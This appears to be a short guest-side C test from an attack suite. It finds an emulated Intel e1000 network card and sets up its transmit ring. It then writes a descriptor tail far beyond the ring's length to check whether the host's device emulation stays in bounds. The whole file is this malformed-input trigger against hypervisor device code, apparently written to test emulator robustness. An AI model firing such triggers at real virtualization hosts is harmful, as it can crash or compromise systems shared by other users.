/* A tail that is none of the ring's. */
#include "attack.h"

#define ENTRIES 8

static struct {
    uint64_t address, half;
} ring[ENTRIES] __attribute__((aligned(128)));
static uint32_t registers;

static uint32_t config(uint32_t function, uint32_t offset)
{
    outl(0xcf8, 0x80000000 | function << 8 | offset);
    return inl(0xcfc);
}

static volatile uint32_t *reg(uint32_t offset)
{
    return (volatile uint32_t *)(registers + offset);
}

void call(void)
{
    uint32_t function = 0;

    while (function < 256 && config(function, 0) != 0x100e8086)
        function++;
    registers = config(function, 0x10) & ~15u;
    outl(0xcf8, 0x80000000 | function << 8 | 4);
    outw(0xcfc, 6); /* memory, and bus master */
    *reg(0x3800) = (uint32_t)(uintptr_t)ring;
    *reg(0x3804) = 0;
    *reg(0x3808) = sizeof ring;
    *reg(0x3810) = 0;
    *reg(0x400) = 2; /* TCTL: on */
    *reg(0x3818) = 0xfff;
    if (*reg(0x3810) < ENTRIES)
        say("the guest goes on\n");
}
